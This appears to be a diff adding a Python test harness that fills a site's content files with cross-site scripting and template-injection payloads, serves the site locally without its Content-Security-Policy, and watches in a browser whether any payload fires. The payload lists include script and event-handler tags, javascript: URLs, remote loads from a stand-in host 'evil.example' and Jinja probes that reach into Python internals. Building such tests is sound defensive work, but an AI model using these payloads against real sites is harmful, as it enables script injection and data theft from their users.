@@ -1,0 +1,267 @@
+"""Texts that would run a script wherever one is let through, and a content folder with one in every field."""
+
+from __future__ import annotations
+
+import json
+import re
+import threading
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager, suppress
+from functools import partial
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from itertools import cycle, repeat
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+from urllib.parse import quote
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser, Page
+
+RUN = "s55ran()"
+"""What a payload calls: it is there in every page, so a call that runs is heard."""
+
+PLAIN = (
+    "<script>s55ran()</script>",
+    "<img src=x onerror=s55ran()>",
+    "<svg onload=s55ran()>",
+    "<details open ontoggle=s55ran()>",
+    "<input autofocus onfocus=s55ran()>",
+    "<iframe srcdoc='<script>parent.s55ran()</script>'></iframe>",
+    "<iframe src='javascript:parent.s55ran()'></iframe>",
+    "<a href='javascript:s55ran()' id=press>press</a>",
+    "<video><source onerror=s55ran()></video>",
+    "<style onload=s55ran()></style>",
+    "<object data='data:text/html,<script>parent.s55ran()</script>'></object>",
+    "<base href='https://evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<img src='https://evil.example/x.png'>",
+    "<script src='https://evil.example/x.js'></script>",
+    "<form action='https://evil.example/'><button autofocus>x</button></form>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=s55ran()>",
+    "<noscript><p title='</noscript><img src=x onerror=s55ran()>'>",
+    "<svg><animate onbegin=s55ran() attributeName=x dur=1s>",
+)
+"""Marks that run where a text is set as HTML."""
+
+BEFORE = (
+    "", "\"'>", "-->", "</title>", "</textarea></style></script>", "]]>", "\\\"'>", "</template></select>", "</noscript>", "&#34;&#39;&gt;", "${'", "%22%3E",
+    "\u2028", "{{''}}", "{% raw %}",
+)  # fmt: skip
+"""What would end the place in which a text stands."""
+
+OWN_WAY = (
+    '" onmouseover=s55ran() autofocus onfocus=s55ran() x="', "' onmouseover='s55ran()' autofocus onfocus='s55ran()' x='",
+    "` onfocus=s55ran() autofocus `", "javascript:s55ran()", "JaVaScRiPt:s55ran()", "java\tscript:s55ran()", "data:text/html,<script>s55ran()</script>",
+    "';s55ran();//", '";s55ran();//', '\\";s55ran();//', "*/s55ran()/*", "${s55ran()}", "`;s55ran();`", "</script><script>s55ran()</script>",
+    "{{ s55ran() }}", "{{ ''.__class__.__mro__ }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", "{{ config }}",
+    "&lt;script&gt;s55ran()&lt;/script&gt;", "&#60;img src=x onerror=s55ran()&#62;", "\\u003cimg src=x onerror=s55ran()\\u003e",
+    "%3Cscript%3Es55ran()%3C/script%3E", "+ADw-script+AD4-s55ran()+ADw-/script+AD4-", "[x](javascript:s55ran())", '![x](x" onerror="s55ran())',
+    "<javascript:s55ran()>", "[x]: javascript:s55ran()", '\ufdd0" onfocus=s55ran() autofocus x="', "__proto__", "constructor", "<mark>x</mark><script>s55ran()</script>",
+)  # fmt: skip
+"""Texts that run in one sort of place: an attribute, a script, a template, an address."""
+
+
+def payloads(most: int) -> list[str]:
+    """Give so many payloads, the kinds mixed, always the same."""
+    mixed = [f"{before}{mark}" for before in BEFORE for mark in PLAIN]
+    step = 7  # it shares no factor with the number of marks, so each of both kinds comes early
+    plain = [mixed[number * step % len(mixed)] for number in range(len(mixed)) if len(mixed) % step]
+    both = [each for pair in zip(plain, (*OWN_WAY, *[""] * len(plain)), strict=False) for each in pair if each]
+    return list(dict.fromkeys(both))[:most]
+
+
+def _said(text: str) -> str:
+    """Write a text as a value of YAML."""
+    return json.dumps("".join(letter if letter.isprintable() or letter == "\t" else " " for letter in text))
+
+
+def _as_prose(text: str) -> str:
+    """Write a text as Markdown that shows it: escaped, as code, and as the entities that stand for its marks."""
+    line = re.sub(r"[^\x20-\uffff]|[\u2028\ufdd0]", " ", text)
+    escaped = re.sub(r"([\\`*_{}\[\]()#+.!|<>&~^:-])", r"\\\1", line)
+    entities = line.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("[", "&#91;").replace("`", "&#96;").replace("*", "&#42;")
+    return f"{escaped}\n\n- {entities}\n\n`` {line} ``\n\n| {escaped} |\n| --- |\n| {escaped} |\n\n~~~~~\n{line}\n~~~~~\n"
+
+
+class _Field:
+    """Writes a text wherever it is named: one and the same, or the next of many."""
+
+    def __init__(self, texts: Iterator[str], write: Callable[[str], str]) -> None:
+        self.texts = texts
+        self.write = write
+
+    def __str__(self) -> str:
+        return self.write(next(self.texts))
+
+
+def write_content(content: Path, texts: list[str], *, records: int | None = None) -> None:
+    """Write one office, report, response and paper for each text, with it in every field that takes a text.
+
+    With `records` there are only so many of each, and every field has the next of the texts: fewer pages to open.
+    """
+    rounds = cycle(texts)
+    for number, text in enumerate(texts if records is None else texts[:records]):
+        given = repeat(text) if records is None else rounds
+        said, prose = _Field(given, _said), _Field(given, _as_prose)
+        heading = _Field(given, lambda text: re.sub(r"\s+", " ", _as_prose(text).split("\n")[0]).strip())
+        named, due = _Field(given, lambda text: _said(f"Kernel {text}")), _Field(given, lambda text: _said(f"x {text}"))
+        attachment = f"attachments: [{{file: p{number}/table.csv, title: {said}}}]\ntags: [{said}]\ncorrections: [{{on: 2026-03-01, note: {said}}}]\n"
+        sources = {
+            f"offices/o{number}.yml": (
+                f"name: {named}\nforce: {said}\nchief-officer: {said}\nshort-name: {named}\npanel: {said}\nstatute-note: {said}\n"
+                f"holders: [{{name: {said}, title: {said}}}]\nnames: [{{name: {said}, to: 2020-01-01}}]\ncontacts: [{said}]\nrecipients: [{said}]\n"
+                f"expects: [2026/p{number}, 2026/owed{number}]\nno-response-needed: {{2026/waived{number}: {said}}}\noffice-use: {said}\n"),
+            f"inspections/2026/p{number}.md": (
+                f"---\ntitle: {named}\npublished: 2026-01-05\ninspectorate: {said}\ninspectorate-name: {said}\ntypes: [{said}]\nforces: [{said}]\n"
+                f"grades: [{{area: {said}, grade: {said}}}]\nfindings: {{recommendation: {{addressed-to: [{said}], by: {due}}}}}\n{attachment}"
+                f"---\n\n{prose}\n\n## {heading} {{#own-section}}\n\n{prose}\n\n## Recommendation\n\n{prose}\n\n"
+                f"## Cause of concern: {heading} {{#own-cause}}\n\n{prose}\n"),
+            f"inspections/2026/owed{number}.md": f"---\ntitle: {named}\npublished: 2026-01-05\ninspectorate: {said}\ntypes: [{said}]\n---\n",
+            f"inspections/2026/waived{number}.md": f"---\ntitle: {named}\npublished: 2026-01-05\ninspectorate: {said}\ntypes: [{said}]\n---\n",
+            f"responses/o{number}/2026/p{number}.md": (
+                f"---\npublished: 2026-02-01\nsigned-by: {said}\nlate-reason: {said}\nsent: [{{to: {said}, on: 2026-02-01, words: {said}}}]\n"
+                f"recorded-as-published: true\nanswers:\n  recommendation:\n    {{action: none, reason: {said}, owner: {said}, due: {due}, position: accepted, "
+                f"progress: [{{on: 2026-02-01, status: in progress, note: {said}, by: {said}, source: {said}}}]}}\n{attachment}"
+                f"---\n\n## Comments\n\n{prose}\n\n## {heading} {{#own-part}}\n\n{prose}\n"),
+            f"responses/o{number}/2026/gone{number}.md": (
+                f"---\ninspection: 2026/p{number}\npublished: 2026-02-01\nrecorded-as-published: true\n"
+                f"withdrawn: {{on: 2026-02-02, reason: {said}}}\n---\n\n## Comments\n\n{prose}\n"),
+            f"panel-reports/o{number}/2026/p{number}.md": (
+                f"---\ntitle: {named}\npanel: {said}\npublished: 2026-02-01\nauthor: {said}\nagenda-item: {said}\nabout: 2026/p{number}\n{attachment}---\n\n{prose}\n"),
+            f"inspections/2026/p{number}/table.csv": "a,b\n", f"responses/o{number}/2026/p{number}/table.csv": "a,b\n",
+            f"panel-reports/o{number}/2026/p{number}/table.csv": "a,b\n",
+        }  # fmt: skip
+        for path, source in sources.items():
+            file = content / path
+            file.parent.mkdir(parents=True, exist_ok=True)
+            file.write_text(source, encoding="utf-8")
+    (content / "pages").mkdir()
+    (content / "pages" / "index.md").write_text("# Home\n\nA sample.\n")
+
+
+class _Site(SimpleHTTPRequestHandler):
+    """Serves a site; without its policies, as if nothing but the escaping stood between a text and the browser."""
+
+    def __init__(self, *args: Any, strips: bool, **named: Any) -> None:
+        self.strips = strips
+        super().__init__(*args, **named)
+
+    def do_GET(self) -> None:
+        file = Path(self.translate_path(self.path))
+        file = file / "index.html" if file.is_dir() and self.path.partition("?")[0].endswith("/") else file
+        if not self.strips or file.suffix != ".html" or not file.is_file():
+            with suppress(ConnectionError):  # a page that is left stops reading
+                super().do_GET()
+            return
+        data = re.sub(rb"<meta http-equiv=\"?Content-Security-Policy[^>]*>", b"", file.read_bytes())
+        assert b"Content-Security-Policy" not in data
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html; charset=utf-8")
+        self.send_header("Content-Length", str(len(data)))
+        self.end_headers()
+        with suppress(ConnectionError):
+            self.wfile.write(data)
+
+    def log_message(self, *_: Any) -> None:
+        pass
+
+
+@contextmanager
+def served(site: Path, *, strips: bool) -> Iterator[str]:
+    """Serve a site on this computer, and give its address."""
+    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Site, directory=str(site), strips=strips))
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_port}/"
+    finally:
+        server.shutdown()
+        server.server_close()
+        thread.join()
+
+
+_LISTEN = """
+window.s55heard = [];
+window.s55ran = () => { console.warn('S55 RAN ' + location.href); };
+document.addEventListener('securitypolicyviolation', (event) => console.warn('S55 VIOLATION ' + event.violatedDirective + ' ' + event.blockedURI));
+"""
+
+
+class Ear:
+    """Opens pages in a real browser, and hears whatever runs, asks, complains or keeps something."""
+
+    def __init__(self, browser: Browser, address: str) -> None:
+        """Open a window that nobody used before."""
+        self.address = address
+        self.heard: list[str] = []
+        self.context = browser.new_context()
+        self.context.add_init_script(_LISTEN)
+        self.page = self.context.new_page()
+        self.page.on("dialog", self._dialog)
+        self.page.on("console", lambda message: self._note("console", message.text) if message.type in {"error", "warning"} else None)
+        self.page.on("pageerror", lambda error: self._note("error", str(error)))
+        self.page.on("request", lambda request: None if request.url.startswith((address, "data:")) else self._note("request", request.url))
+        self.context.on("page", lambda page: self._note("window", page.url))
+
+    def _dialog(self, dialog: Any) -> None:
+        self._note("dialog", dialog.message)
+        dialog.dismiss()
+
+    def _note(self, what: str, told: str) -> None:
+        self.heard.append(f"{self.page.url.removeprefix(self.address)}: {what}: {told[:200]}")
+
+    def open(self, path: str, *, pause: int = 0) -> Page:
+        """Open a page, and wait till it is quiet."""
+        self.page.goto(self.address + path, wait_until="load")
+        if pause:
+            self.page.wait_for_timeout(pause)
+        return self.page
+
+    def kept(self) -> dict[str, Any]:
+        """Say what the site has kept in the browser."""
+        found: dict[str, Any] = self.page.evaluate(
+            """async () => ({local: localStorage.length, session: sessionStorage.length, cookie: document.cookie,
+                databases: (await indexedDB.databases()).length, caches: (await caches.keys()).length,
+                workers: (await navigator.serviceWorker.getRegistrations()).length})"""
+        )
+        return {name: value for name, value in {**found, "cookies": len(self.context.cookies())}.items() if value}
+
+    def close(self) -> None:
+        """Close the window."""
+        self.context.close()
+
+
+def pages_of(site: Path) -> list[str]:
+    """Give the addresses of all pages of a site."""
+    files = sorted(file.relative_to(site).as_posix() for file in site.rglob("*.html"))
+    return [file.removesuffix("index.html") if file.endswith("index.html") else file for file in files]
+
+
+def asked(texts: list[str]) -> Iterator[str]:
+    """Give addresses that put each text into whatever a page reads of its own address."""
+    for text in texts:
+        given = quote(text, safe="")
+        names = ("q", "office", "class", "year", "type", "page", "sort", "kind", "addressee", "position", "progress", "status", text)
+        query = "&".join(f"{quote(name, safe='')}={given}" for name in names)
+        yield from (f"{page}?{query}#{given}" for page in ("search/", "findings/", "responses/"))
+
+
+def attack(browser: Browser, site: Path, texts: list[str]) -> tuple[list[str], int]:
+    """Open every page of a site without its policies, then ask it for the texts; give all that was heard, and how many were opened."""
+    opened = 0
+    with served(site, strips=True) as address:
+        ear = Ear(browser, address)
+        for page in pages_of(site):
+            shown = ear.open(page)
+            if shown.locator("#press").count():
+                ear.heard.append(f"{page}: a mark of a text stands in the page")
+            opened += 1
+        for path in asked(texts):
+            ear.open(path, pause=100 if path.startswith("search/") else 0)
+            opened += 1
+        ear.open("search/?q=Kernel", pause=1500)
+        hits = ear.page.locator("[data-hit]").count()
+        ear.heard += [] if hits else ["search/: nothing was found, so nothing was shown"]
+        ear.close()
+        return ear.heard, opened + 1
